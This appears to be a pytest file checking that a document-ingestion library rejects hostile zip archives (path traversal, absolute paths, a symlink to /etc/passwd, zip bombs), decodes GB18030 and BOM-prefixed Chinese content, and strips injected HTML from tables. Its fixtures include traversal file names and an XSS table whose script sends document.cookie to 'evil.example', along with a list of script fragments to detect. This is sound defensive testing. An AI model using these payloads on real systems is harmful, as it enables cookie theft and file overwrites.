# -- hostile archives ---------------------------------------------------------------------------


def _evil_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if "evil" in p.name]


def test_zip_with_parent_traversal_is_rejected(library: Library, tmp_path: Path) -> None:
    data = _zip(
        {
            "r_content_list.json": TINY_LIST,
            "images/../../evil.txt": b"pwned",
            "../evil.txt": b"pwned",
        }
    )
    (report,) = library.ingest_bytes([("traversal.zip", data)])
    assert report.status == "rejected"
    assert "unsafe path" in report.message and "evil.txt" in report.message
    _assert_untouched(library)
    assert _evil_files(tmp_path) == []
    assert not (library.data_dir / "assets").exists() or not any(
        (library.data_dir / "assets").rglob("*")
    )


def test_zip_with_absolute_path_is_rejected(library: Library, tmp_path: Path) -> None:
    target = tmp_path / "outside" / "evil_abs.txt"
    data = _zip({"r_content_list.json": TINY_LIST, str(target): b"pwned"})
    (report,) = library.ingest_bytes([("absolute.zip", data)])
    assert report.status == "rejected"
    assert "absolute" in report.message
    assert not target.exists()
    assert _evil_files(tmp_path) == []
    _assert_untouched(library)


def test_zip_with_windows_drive_path_is_rejected() -> None:
    data = _zip({"r_content_list.json": TINY_LIST, "C:\\Windows\\evil.dll": b"MZ"})
    with pytest.raises(IngestError, match="unsafe path"):
        load_bytes(data, "drive.zip", BIG)


def test_zip_with_symlink_is_rejected(library: Library) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("r_content_list.json", TINY_LIST)
        link = zipfile.ZipInfo("images/evil_link.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    (report,) = library.ingest_bytes([("symlink.zip", buf.getvalue())])
    assert report.status == "rejected" and "symbolic link" in report.message
    _assert_untouched(library)


def test_zip_with_too_many_entries_is_rejected_quickly() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("r_content_list.json", TINY_LIST)
        for n in range(InputLimits().max_zip_entries):
            archive.writestr(f"images/{n}.png", b"")
    start = time.perf_counter()
    with pytest.raises(IngestError, match=r"20001 files in the archive, over 20000"):
        load_bytes(buf.getvalue(), "many.zip", BIG)
    assert time.perf_counter() - start < 5


def test_zip_expanding_past_the_limit_is_rejected() -> None:
    limits = InputLimits(max_zip_expanded_bytes=1_000_000)
    data = _zip({"r_content_list.json": TINY_LIST, "images/bomb.png": b"\0" * 2_000_000})
    assert len(data) < 20_000  # compresses ~1000:1, like a bomb
    with pytest.raises(IngestError, match="expands past"):
        load_bytes(data, "bomb.zip", BIG, limits=limits)


# -- encodings ----------------------------------------------------------------------------------


def test_gb18030_encoded_chinese_content_list_is_accepted(ingest_json, library: Library) -> None:
    items = [
        {"type": "text", "text": "二级标题：产能扩张", "text_level": 2, "page_idx": 0},
        {
            "type": "text",
            "text": "中芯国际2024年末月产能接近95万片，产能利用率回升至85%以上。",
            "page_idx": 0,
        },
    ]
    data = json.dumps(items, ensure_ascii=False).encode("gb18030")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")  # really not UTF-8
    (report,) = library.ingest_bytes([("gbk_content_list.json", data)])
    assert report.status == "ingested", report.message
    (chunk,) = library.chunks("default")
    assert chunk.text == items[1]["text"]
    assert chunk.heading_path == ("二级标题：产能扩张",)
    assert library.keyword_search("default", "产能利用率", 1)[0][0].chunk_id == chunk.chunk_id


def test_utf8_bom_content_list_is_accepted() -> None:
    (loaded,) = load_bytes(b"\xef\xbb\xbf" + TINY_LIST, "bom_content_list.json", BIG)
    assert loaded.document.items[0].text == "中芯国际产能利用率回升"


# -- hostile HTML in tables ---------------------------------------------------------------------

_HOSTILE_TABLE = (
    "<table><tr><td>指标</td><td>2024A</td></tr>"
    '<tr><td onclick="steal()">营收<script>alert("pwned-1")</script></td>'
    "<td><img src=x onerror=\"alert('pwned-2')\">578.0</td></tr>"
    "<tr><td>毛利率<style>td{background:url(javascript:pwned3)}</style></td><td>18.6</td></tr>"
    '</table><script>fetch("https://evil.example/?c="+document.cookie)</script>'
)
_SCRIPT_BITS = (
    "pwned",
    "alert",
    "<script",
    "onerror",
    "onclick",
    "document.cookie",
    "javascript",
    "evil.example",
    "<img",
    "steal",
)


def _assert_no_script(chunk: Chunk) -> None:
    for bit in _SCRIPT_BITS:
        assert bit not in chunk.text, (bit, chunk.text)
        assert bit not in chunk.search_text, (bit, chunk.search_text)


def test_table_with_script_and_event_handlers_yields_only_cell_text(
    ingest_json, library: Library
) -> None:
    report = ingest_json(
        [
            {"type": "text", "text": "经营数据", "text_level": 1, "page_idx": 0},
            {
                "type": "table",
                "table_body": _HOSTILE_TABLE,
                "table_caption": ["表1：经营数据"],
                "page_idx": 0,
            },
        ]
    )
    assert report.status == "ingested"
    (chunk,) = library.chunks("default")
    _assert_no_script(chunk)
    assert chunk.text == "指标 | 2024A\n营收: 2024A 578.0\n毛利率: 2024A 18.6"
    assert (chunk.n_rows, chunk.n_cols) == (3, 2)
    assert library.keyword_search("default", "pwned alert cookie", 5) == []


def test_markdown_table_with_script_yields_only_cell_text(counter) -> None:  # type: ignore[no-untyped-def]
    text = "# 经营数据\n\n表1：经营数据\n\n" + _HOSTILE_TABLE + "\n"
    (loaded,) = load_bytes(text.encode("utf-8"), "hostile.md", BIG)
    (table,) = [c for c in chunk_document(loaded.document, counter) if c.type == "table"]
    _assert_no_script(table)
    assert "营收: 2024A 578.0" in table.text
